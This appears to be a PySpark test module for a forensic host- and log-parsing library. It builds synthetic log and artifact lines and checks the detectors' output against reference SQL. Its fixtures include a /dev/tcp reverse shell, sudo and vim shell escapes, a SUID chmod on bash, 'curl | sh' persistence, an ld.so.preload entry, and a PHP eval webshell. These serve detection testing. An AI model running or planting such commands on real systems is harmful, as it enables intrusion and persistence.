"""Queries of the host and log normalisers: lines are rendered from the tables and read back."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from ..operators import host_state, live, logons, logs, rules
from ..sources import files
from .catalog import TIME, query
from .derive import pick, sql_pick, table


def s(name: str, modulo: int | None = None) -> Column:
    return (F.col(name) % modulo if modulo else F.col(name)).cast("string")


def lines(df: DataFrame, line: Column, number: str, path: str = "f", host: str = "h") -> DataFrame:
    return df.select(F.lit(host).alias("host"), F.lit(path).alias("path"), F.col(number).alias("line_no"), line.alias("line"))


@query("""SELECT event_id, strftime(ts, '%Y-%m-%d %H:%M:%S') AS time_utc, CASE WHEN event_id % 3 = 0 THEN 'utm_virus' WHEN event_id % 3 = 1 THEN CASE WHEN event_id % 2 = 0 THEN 'admin_login' ELSE 'admin_login_failed' END ELSE '' END AS flag,
  '10.0.0.' || CAST(user_id % 250 AS VARCHAR) AS srcip, CASE WHEN event_id % 3 = 0 THEN 'v' || CAST(event_id AS VARCHAR) WHEN event_id % 3 = 1 THEN 'Admin login tried' ELSE '' END AS detail FROM events""")
def fortigate_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events").withColumn("sec", F.unix_seconds(F.col("ts").cast("timestamp")).cast("string"))
    head = F.concat(F.lit('date=2024-01-01 time=10:00:00 logid="'), s("event_id"), F.lit('" srcip=10.0.0.'), s("user_id", 250), F.lit(" eventtime="), F.when(F.col("event_id") % 2 == 0, F.concat("sec", F.lit("000000000"))).otherwise(F.col("sec")))
    rest = F.when(F.col("event_id") % 3 == 0, F.concat(F.lit(' type="utm" subtype="virus" action="blocked" virus="v'), s("event_id"), F.lit('"'))).when(F.col("event_id") % 3 == 1, F.concat(F.lit(' type="event" logdesc="Admin login tried" status="'), F.when(F.col("event_id") % 2 == 0, "success").otherwise("failed"), F.lit('"'))).otherwise(' type="traffic"')
    got = logs.fortigate(lines(e, F.concat(head, rest), "event_id").withColumn("path", F.col("line_no").cast("string")))
    return got.select(F.col("path").cast("long").alias("event_id"), F.date_format("time_utc", TIME).alias("time_utc"), "flag", "srcip", "detail")


@query("""SELECT '/d|' || CAST(o_orderkey AS VARCHAR) AS name, CAST(o_custkey AS VARCHAR) AS uid, strftime(o_orderdate, '%Y-%m-%d %H:%M:%S') AS mtime_utc FROM orders""")
def bodyfile_timeline(spark: SparkSession, sf_dir: str) -> DataFrame:
    o = table(spark, sf_dir, "orders")
    line = F.concat(F.lit("0|/d|"), s("o_orderkey"), F.lit("|5|r/rrw|"), s("o_custkey"), F.lit("|0|12|0|"), F.unix_seconds(F.col("o_orderdate").cast("timestamp")).cast("string"), F.lit("|-1|"), F.lit("0"))
    return logs.bodyfile(lines(o, line, "o_orderkey")).select("name", "uid", F.date_format("mtime_utc", TIME).alias("mtime_utc"))


@query("""SELECT event_id, CASE event_id % 4 WHEN 0 THEN 'exec' WHEN 1 THEN 'exec' WHEN 2 THEN 'crontab_replace' ELSE 'reload' END AS kind, 'u' || CAST(user_id AS VARCHAR) AS "user", event_id % 4 = 0 AS suspicious FROM events""")
def cron_runs(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events")
    who = F.concat(F.lit("(u"), s("user_id"), F.lit(") "))
    said = pick(("CRON[1]: {}CMD (/tmp/a -x)", "CRON[1]: {}CMD (/usr/bin/b)", "crontab[2]: {}REPLACE (root)", "cron[3]: {}RELOAD (/etc/crontab)"), "event_id % 4")
    line = F.concat(F.date_format("ts", "yyyy-MM-dd'T'HH:mm:ss"), F.lit(" box "), F.replace(said, F.lit("{}"), who))
    return logs.cron_log(lines(e, line, "event_id").withColumn("path", F.col("line_no").cast("string"))).select(F.col("path").cast("long").alias("event_id"), "kind", "user", "suspicious")


@query("""SELECT strftime(ts, '%Y-%m-%d %H:%M:%S') AS time_local, 'u' || CAST(user_id % 9 AS VARCHAR) AS "user", 'root' AS runas, CASE WHEN event_id % 5 = 0 THEN '3 incorrect password attempts' ELSE '' END AS status,
  '/usr/bin/x ' || CAST(event_id AS VARCHAR) AS command, event_id % 5 = 0 AS suspicious FROM events""")
def sudo_commands(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events")
    line = F.concat(F.date_format("ts", "MMM d HH:mm:ss yyyy"), F.lit(" : u"), s("user_id", 9), F.lit(" : "), F.when(F.col("event_id") % 5 == 0, "3 incorrect password attempts ; ").otherwise(""), F.lit("TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/x "), s("event_id"))
    return logs.sudo_log(lines(e, line, "event_id")).select("time_local", "user", "runas", "status", "command", "suspicious")


_PACKAGES = ("nmap", "zlib", "socat", "vim", "hydra")


@query(f"""WITH p AS (SELECT p_partkey AS k, {sql_pick(_PACKAGES, 'p_partkey % 5')} AS n FROM part)
SELECT 'dpkg' AS source, 'install' AS action, n AS package, '1.' || CAST(k AS VARCHAR) AS version, '' AS actor, k % 5 IN (0, 2, 4) AS suspicious FROM p
UNION ALL SELECT 'apt_history', 'upgrade', n, '2.' || CAST(k AS VARCHAR), 'u' || CAST(k AS VARCHAR), k % 5 IN (0, 2, 4) FROM p
UNION ALL SELECT 'apt_history', 'upgrade', 'extra', '3', 'u' || CAST(k AS VARCHAR), false FROM p""")
def package_actions(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = table(spark, sf_dir, "part")
    name = pick(_PACKAGES, "p_partkey % 5")
    dpkg = lines(p, F.concat(F.lit("2024-01-01 10:00:00 install "), name, F.lit(":amd64 <none> 1."), s("p_partkey")), "p_partkey", "/var/log/dpkg.log")
    block = F.array(F.lit("Start-Date: 2024-01-01  10:00:00"), F.concat(F.lit("Requested-By: u"), s("p_partkey")), F.concat(F.lit("Upgrade: "), name, F.lit(":amd64 (2."), s("p_partkey"), F.lit("), extra:amd64 (3)")), F.lit(""))
    apt = p.select("p_partkey", F.posexplode(block).alias("i", "line")).select(F.lit("h").alias("host"), F.lit("/var/log/apt/history.log").alias("path"), (F.col("p_partkey") * 4 + F.col("i")).alias("line_no"), "line")
    return logs.package_history(dpkg.unionByName(apt)).select("source", "action", "package", "version", "actor", "suspicious")


@query("""SELECT conv_id, count(*) AS lines, 1 AS commands FROM conversations GROUP BY conv_id""")
def powershell_commands(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Turns as lines that a backtick continues, so that each conversation is one command."""
    c = table(spark, sf_dir, "conversations")
    df = c.select(F.col("conv_id").cast("string").alias("host"), F.lit("u").alias("user"), F.col("turn").alias("line_no"), F.concat(F.lit("t"), s("turn"), F.lit(" `")).alias("line"))
    got = logs.powershell_history(df)
    return got.select(F.col("host").cast("long").alias("conv_id"), (F.size(F.split("command", " +"))).cast("long").alias("lines"), F.col("seq").alias("commands"))


_COMMANDS = ("sudo find / -exec /bin/sh +", "ls -l", "bash -i >& /dev/tcp/1.2.3.4/9", "chmod u+s /bin/bash", "vim -c ':!sh'", "python3 -c 'import pty; pty.spawn(1)'")


@query(f"""SELECT event_id, {sql_pick(('find', '', 'bash', 'chmod', 'vim', 'python'), 'event_id % 6')} AS binary, {sql_pick(('shell', '', 'reverse-shell', 'suid', 'shell', 'shell'), 'event_id % 6')} AS function, event_id % 6 = 0 AS sudo FROM events WHERE event_id % 6 <> 1""")
def shell_escape_hits(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events").select("event_id", pick(_COMMANDS, "event_id % 6").alias("command"))
    return logs.shell_escapes(e).select("event_id", "binary", "function", "sudo")


@query("""SELECT 'u' || CAST(c_custkey AS VARCHAR) AS "user", 'g' || CAST(c_nationkey AS VARCHAR) AS "group", CASE WHEN c_custkey % 4 = 0 THEN 'sudo' ELSE '' END AS extra_groups, CASE WHEN c_custkey % 3 = 0 THEN 'no_password' WHEN c_custkey % 3 = 1 THEN 'locked' ELSE 'password_set' END AS pw_status,
  c_custkey % 4 = 0 AS privileged, c_custkey % 3 = 0 AS suspicious FROM customer""")
def accounts_report(spark: SparkSession, sf_dir: str) -> DataFrame:
    c, n = table(spark, sf_dir, "customer"), table(spark, sf_dir, "nation")
    user = F.concat(F.lit("u"), s("c_custkey"))
    passwd = lines(c, F.concat(user, F.lit(":x:5:"), s("c_nationkey"), F.lit("::/home:/bin/sh")), "c_custkey")
    groups = lines(n, F.concat(F.lit("g"), s("n_nationkey"), F.lit(":x:"), s("n_nationkey"), F.lit(":")), "n_nationkey")
    sudo = lines(c.where("c_custkey % 4 = 0"), F.concat(F.lit("sudo:x:9999:"), user), "c_custkey")
    shadow = lines(c, F.concat(user, F.lit(":"), F.expr("CASE c_custkey % 3 WHEN 0 THEN '' WHEN 1 THEN '!' ELSE '$6$x' END"), F.lit(":1::::::")), "c_custkey")
    return logs.accounts(passwd, groups.unionByName(sudo), shadow).select("user", "group", "extra_groups", "pw_status", "privileged", "suspicious")


@query("""SELECT 's' || CAST(s_suppkey AS VARCHAR) AS account, 'n' || CAST(s_nationkey AS VARCHAR) AS target, 'ed25519+rsa' AS key_types, 2 AS entries FROM supplier""")
def known_host_targets(spark: SparkSession, sf_dir: str) -> DataFrame:
    sup = table(spark, sf_dir, "supplier")
    df = sup.select(F.lit("h").alias("host"), F.concat(F.lit("s"), s("s_suppkey")).alias("account"), F.explode(F.array(*(F.concat(F.lit("n"), s("s_nationkey"), F.lit(f" {k} AAAA")) for k in ("rsa", "ed25519")))).alias("line"))
    return logs.known_hosts(df).select("account", "target", "key_types", "entries")


@query("""WITH v AS (SELECT o_custkey AS h, max(o_orderkey) AS v FROM orders GROUP BY 1), b AS (SELECT h, v, unnest(range(0, 19)) AS bit FROM v)
SELECT CAST(h AS VARCHAR) AS host, count(*) AS bits, count(*) FILTER (bit IN (1, 3, 13)) AS bad FROM b WHERE (v // CAST(power(2, bit) AS BIGINT)) % 2 = 1 GROUP BY h""")
def kernel_taint(spark: SparkSession, sf_dir: str) -> DataFrame:
    v = table(spark, sf_dir, "orders").groupBy(F.col("o_custkey").cast("string").alias("host")).agg(F.max("o_orderkey").cast("string").alias("line"))
    got = host_state.kernel(v.withColumns({"path": F.lit("tainted"), "line_no": F.lit(1)})).where("kind = 'taint' and name <> 'taint_value'")
    return got.groupBy("host").agg(F.count("*").alias("bits"), F.count_if("suspicious").alias("bad"))


_STARTUP = (("/etc/rc.local", "exit 0"), ("/home/u/.bashrc", "alias l=ls"), ("/home/u/.bashrc", "curl x | sh"), ("/etc/ld.so.preload", "/lib/x.so"), ("/etc/cron.d/x", "wget y"))


@query(f"""SELECT event_id, {sql_pick(('rc.local', '', 'shell_rc', 'ld_preload', ''), 'event_id % 5')} AS vector, event_id % 5 = 2 AS suspicious FROM events WHERE event_id % 5 IN (0, 2, 3)""")
def persistence_vectors(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events")
    df = e.select(s("event_id").alias("host"), pick(tuple(p for p, _ in _STARTUP), "event_id % 5").alias("path"), F.lit(1).alias("line_no"), pick(tuple(x for _, x in _STARTUP), "event_id % 5").alias("line"))
    return host_state.persistence(df).select(F.col("host").cast("long").alias("event_id"), "vector", "suspicious")


@query(r"""SELECT 'u' || CAST(user_id % 7 AS VARCHAR) AS "user", CASE WHEN user_id % 3 = 0 THEN '1.2.3.4' ELSE 'files.example' END AS source, count(*) AS count, bool_or(user_id % 3 = 0 OR user_id % 7 < 2) AS suspicious FROM events GROUP BY user_id % 7, user_id % 3""")
def transfer_jobs(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events")
    url = F.when(F.col("user_id") % 3 == 0, "http://1.2.3.4/a").otherwise("https://files.example/a")
    dest = F.concat(F.lit("C:\\Users\\u"), s("user_id", 7), F.when(F.col("user_id") % 7 < 2, "\\x.exe").when(F.col("user_id") % 7 < 4, "\\temp\\x.exe").otherwise("\\x.txt"))
    jobs = e.select(F.lit("h").alias("host"), F.concat(url, s("user_id", 3)).alias("url"), dest.alias("dest"))
    return host_state.transfer_jobs(jobs).select("user", "source", "count", "suspicious")


@query(r"""SELECT p_partkey, CASE WHEN p_partkey % 4 = 0 THEN 'run_key' WHEN p_partkey % 4 = 1 THEN 'shell' ELSE 'image_options' END AS vector, p_partkey % 4 <> 1 AND (p_partkey % 4 = 2 OR p_partkey % 8 = 0) OR p_partkey % 4 = 1 AND p_partkey % 8 = 1 AS suspicious FROM part WHERE p_partkey % 4 <> 3""")
def registry_autostarts(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = table(spark, sf_dir, "part")
    odd = F.col("p_partkey") % 8 < 2
    rows = p.select(
        s("p_partkey").alias("host"), pick(("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "HKLM\\Windows NT\\CurrentVersion\\Winlogon", "HKLM\\Image File Execution Options\\a.exe", "HKLM\\Other"), "p_partkey % 4").alias("key"),
        pick(("x", "Shell", "Debugger", "x"), "p_partkey % 4").alias("name"), F.when(odd, "C:\\Users\\Public\\x.exe").otherwise("explorer.exe").alias("data"),
    )
    return host_state.registry_autostarts(rows).select(F.col("host").cast("long").alias("p_partkey"), "vector", "suspicious")


@query("""SELECT p_partkey, CASE WHEN p_partkey % 10 = 0 THEN 'alpha' ELSE 'beta' END AS tool FROM part WHERE p_partkey % 10 IN (0, 5)""")
def remote_tools(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = table(spark, sf_dir, "part")
    inventory = p.select("p_partkey", F.concat(F.lit("C:\\"), s("p_partkey"), F.expr(r"CASE p_partkey % 10 WHEN 0 THEN '\\Alpha.exe' WHEN 5 THEN '\\BetaView\\x.exe' ELSE '\\c.exe' END")).alias("FullPath"))
    tools = table(spark, sf_dir, "region").where("r_regionkey < 2").select(F.col("r_regionkey").alias("rank"), F.when(F.col("r_regionkey") == 0, "alpha").otherwise("beta").alias("tool"), F.when(F.col("r_regionkey") == 0, F.array(F.lit("alpha.exe"))).otherwise(F.array().cast("array<string>")).alias("files"), F.when(F.col("r_regionkey") == 1, F.array(F.lit("\\betaview"))).otherwise(F.array().cast("array<string>")).alias("parts"))
    return live.remote_tools(inventory, tools).select("p_partkey", "tool")


@query("""SELECT o_custkey AS c, min(o_orderkey % 20) AS mru, bool_or(o_orderkey % 2 = 0) AS cert_accepted FROM orders GROUP BY 1""")
def rdp_targets(spark: SparkSession, sf_dir: str) -> DataFrame:
    o = table(spark, sf_dir, "orders").select(F.lit("h").alias("host"), F.lit("u").alias("user"), s("o_custkey").alias("target"), (F.col("o_orderkey") % 20).alias("position"), F.lit("").alias("hint"), (F.col("o_orderkey") % 2 == 0).alias("cert"), F.lit(None).cast("timestamp").alias("last_write"))
    return host_state.rdp_targets(o, o).select(F.col("target").cast("long").alias("c"), "mru", "cert_accepted")


@query("""SELECT user_id, CASE WHEN user_id % 3 = 0 THEN ',' WHEN user_id % 3 = 1 THEN '|' END AS delimiter FROM (SELECT DISTINCT user_id FROM events)""")
def delimiters(spark: SparkSession, sf_dir: str) -> DataFrame:
    u = table(spark, sf_dir, "events").select("user_id").distinct()
    body = F.expr("CASE user_id % 3 WHEN 0 THEN array('a,b;c', 'x,y', 'x,y,z') WHEN 1 THEN array('a|b|c', '1|2|3') ELSE array('a,b', 'plain') END")
    df = u.select(s("user_id").alias("path"), F.posexplode(body).alias("i", "line")).select("path", (F.col("i") + 1).alias("line_no"), "line")
    return files.delimiter_of(df).select(F.col("path").cast("long").alias("user_id"), "delimiter")


@query("""WITH x AS (SELECT user_id % 10 AS d, 'CORP\\user' || CAST(user_id % 9 AS VARCHAR) AS u, event_id FROM events WHERE event_type = 'view')
SELECT 'd' || CAST(d AS VARCHAR) AS dst, lower(split_part(u, '\\', 2)) AS u, count(DISTINCT 'rule ' || CAST(event_id % 4 AS VARCHAR)) AS verdicts FROM x WHERE event_id % 4 <> 0 GROUP BY ALL""".replace("\\\\", "\\"))
def verdicts_on_edges(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events").where("event_type = 'view'")
    dst, user = F.concat(F.lit("d"), s("user_id", 10)), F.concat(F.lit("CORP\\user"), s("user_id", 9))
    verdict = F.when(F.col("event_id") % 4 == 0, "Network logon").otherwise(F.concat(F.lit("rule "), s("event_id", 4)))
    told = e.select(dst.alias("dst"), user.alias("user"), F.lit("4624").alias("event_id"), verdict.alias("verdict"))
    bare = told.select("dst", "user", "event_id", F.array().cast("array<string>").alias("reasons")).distinct()
    got = logons.add_verdicts(bare, told).where(F.array_contains("reasons", "chainsaw"))
    return got.select("dst", F.lower(F.substring_index("user", "\\", -1)).alias("u"), F.size("chainsaw").cast("long").alias("verdicts"))


@query("""SELECT doc_id, CASE WHEN regexp_matches(lower(text), 'licen[sc]e') THEN 'license' ELSE '' END || CASE WHEN regexp_matches(lower(text), 'licen[sc]e') AND regexp_matches(lower(text), 'disgusting|trash') THEN '+' ELSE '' END || CASE WHEN regexp_matches(lower(text), 'disgusting|trash') THEN 'rude' ELSE '' END AS labels
FROM documents WHERE regexp_matches(lower(text), 'licen[sc]e|disgusting|trash')""")
def indicator_matches(spark: SparkSession, sf_dir: str) -> DataFrame:
    from ..functions.plan import computed_once
    from ..operators.web import match_indicators

    known, _ = rules.load_indicators("license = licen[sc]e\nrude = disgusting|trash  # words")
    d = computed_once(table(spark, sf_dir, "documents").select("doc_id", "text"), {"labels": match_indicators(F.col("text"), known)})
    return d.where(F.size("labels") > 0).select("doc_id", F.array_join("labels", "+").alias("labels"))


@query(f"""SELECT event_id, {sql_pick(('hidden_file', 'hidden_dir', 'file_capability', 'world_writable_file', 'world_writable_dir'), 'event_id % 5')} AS indicator, CASE event_id % 5 WHEN 0 THEN true WHEN 1 THEN false WHEN 2 THEN false ELSE true END AS suspicious FROM events WHERE NOT (event_id % 5 = 3 AND event_id % 2 = 0) AND NOT (event_id % 5 = 4 AND event_id % 2 = 0)""")
def file_anomalies(spark: SparkSession, sf_dir: str) -> DataFrame:
    from ..operators import artifacts

    e = table(spark, sf_dir, "events")
    paths = ("hidden_files.txt", "hidden_directories.txt", "getcap_-r.txt", "world_writable_files.txt", "world_writable_directories.txt")
    said = F.when(F.col("event_id") % 5 == 0, "/tmp/.x").when(F.col("event_id") % 5 == 1, "/home/.y").when(F.col("event_id") % 5 == 2, "/usr/bin/p cap_x=ep").when(F.col("event_id") % 2 == 0, F.when(F.col("event_id") % 5 == 3, "/srv/a.jpg").otherwise("/home/z")).otherwise(F.when(F.col("event_id") % 5 == 3, "/srv/a.sh").otherwise("/etc/z"))
    df = e.select(s("event_id").alias("host"), pick(paths, "event_id % 5").alias("path"), F.lit(1).alias("line_no"), said.alias("line"))
    return artifacts.file_anomalies(df).select(F.col("host").cast("long").alias("event_id"), "indicator", "suspicious")


@query("""SELECT DISTINCT 'd' || CAST(o_custkey AS VARCHAR) AS folder, strftime(o_orderdate - INTERVAL 1 HOUR, '%Y-%m-%d %H:%M:%S') AS last_used_utc FROM orders""")
def recently_used(spark: SparkSession, sf_dir: str) -> DataFrame:
    from ..operators import artifacts

    o = table(spark, sf_dir, "orders").select(F.lit("h").alias("host"), F.concat(F.lit("d"), s("o_custkey")).alias("folder_path"), F.lit("x.exe").alias("explorer_file_name"), F.concat(F.date_format("o_orderdate", "yyyyMMddHHmmss"), F.lit(".000000+060")).alias("last_used_time"))
    return artifacts.recently_used(o).select("folder", F.date_format("last_used_utc", TIME).alias("last_used_utc"))


@query("""SELECT p_partkey, CASE p_partkey % 3 WHEN 0 THEN 'input_to_exec' WHEN 1 THEN 'htaccess_handler' ELSE 'jsp_exec,wscript_shell' END AS indicators FROM part""")
def webshell_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    from ..operators import artifacts

    p = table(spark, sf_dir, "part")
    content = pick(("<?php eval($_GET[1]); ?>", "AddType application/x-httpd-php .jpg", "Runtime.getRuntime().exec(x) WScript.Shell"), "p_partkey % 3")
    name = pick(("a.php", ".htaccess", "b.jsp"), "p_partkey % 3")
    df = p.select(s("p_partkey").alias("host"), F.concat(F.lit("/var/www/"), name).alias("path"), content.alias("content"))
    return artifacts.webshells(df).select(F.col("host").cast("long").alias("p_partkey"), "indicators")


@query("""SELECT user_id, count(*) AS n FROM (SELECT DISTINCT user_id, event_id % 4 AS g FROM events) GROUP BY user_id""")
def policy_items(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Mirrored trees of four policies by user: each item counts once."""
    from ..operators import artifacts

    e = table(spark, sf_dir, "events")
    guid = F.concat(F.lit("{6D809377-6AF0-444B-8957-A3773F02200"), s("event_id", 4), F.lit("}"))
    path = F.concat(F.lit("/sysvol/"), s("event_id", 7), F.lit("/"), guid, F.lit("/User/Preferences/Drives/Drives.xml"))
    df = e.select(s("user_id").alias("host"), path.alias("path"), F.lit("n").alias("name"), F.when(F.col("event_id") % 7 < 3, "U").otherwise("2").alias("action"), F.lit("").alias("run_as"), F.lit("").alias("command"), F.lit("x").alias("cpassword"))
    return artifacts.policy_items(df).groupBy(F.col("host").cast("long").alias("user_id")).agg(F.count("*").alias("n"))


@query("""SELECT event_id, CASE event_type WHEN 'error' THEN 'failed' ELSE 'ok' END AS result, 'u' || CAST(user_id AS VARCHAR) AS "user", '10.0.0.' || CAST(user_id % 250 AS VARCHAR) AS source FROM events""")
def login_records(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events")
    line = F.concat(F.lit("u"), s("user_id"), F.lit(" pts/0   10.0.0."), s("user_id", 250), F.lit("  "), F.date_format("ts", "EEE MMM d HH:mm"), F.lit(" - 11:00  (01:00)"))
    df = e.select(s("event_id").alias("host"), F.when(F.col("event_type") == "error", "lastb.txt").otherwise("last.txt").alias("path"), F.lit(1).alias("line_no"), line.alias("line"))
    return host_state.logins(df).select(F.col("host").cast("long").alias("event_id"), "result", "user", "source")


@query("""SELECT event_id, CASE WHEN event_id % 4 IN (0, 1) THEN 'hosts' WHEN event_id % 4 = 2 THEN 'hosts.allow' ELSE 'resolv.conf' END AS file, event_id % 4 IN (0, 2) AS suspicious FROM events""")
def network_config(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = table(spark, sf_dir, "events")
    df = e.select(s("event_id").alias("host"), pick(("/etc/hosts", "/etc/hosts", "/etc/hosts.allow", "/etc/resolv.conf"), "event_id % 4").alias("path"), F.lit(1).alias("line_no"), pick(("127.0.0.1 update.vendor.example", "10.0.0.1 box.example", "ALL: ALL", "nameserver 1.1.1.1"), "event_id % 4").alias("line"))
    return host_state.network_config(df).select(F.col("host").cast("long").alias("event_id"), "file", "suspicious")


@query("""SELECT p_partkey, CASE p_partkey % 4 WHEN 0 THEN 'truncated' WHEN 1 THEN 'empty' WHEN 2 THEN 'present' ELSE 'missing' END AS status, p_partkey % 4 < 2 AS suspicious FROM part""")
def log_integrity(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = table(spark, sf_dir, "part").select(s("p_partkey").alias("host"), (F.col("p_partkey") % 4).alias("k"))
    sizes = p.where("k < 3").select("host", F.lit("wtmp").alias("name"), F.expr("CASE k WHEN 0 THEN 385 WHEN 1 THEN 0 ELSE 768 END").cast("long").alias("size"))
    return host_state.log_integrity(sizes, p).where("name = 'wtmp'").select(F.col("host").cast("long").alias("p_partkey"), "status", "suspicious")


@query("""SELECT p_partkey, p_partkey % 2 AS watches, CASE WHEN p_partkey % 3 = 0 THEN '0' ELSE '1' END AS enabled, p_partkey % 3 = 0 AS disabled FROM part""")
def audit_coverage(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = table(spark, sf_dir, "part")
    body = F.array(F.when(F.col("p_partkey") % 2 == 1, "-w /etc/passwd -p wa").otherwise("# none"), F.lit("-e 1"), F.when(F.col("p_partkey") % 3 == 0, "-e 0").otherwise("-e 1"))
    df = p.select(s("p_partkey").alias("host"), F.lit("audit.rules").alias("path"), F.posexplode(body).alias("line_no", "line"))
    return host_state.audit_coverage(df).select(F.col("host").cast("long").alias("p_partkey"), "watches", "enabled", "disabled")
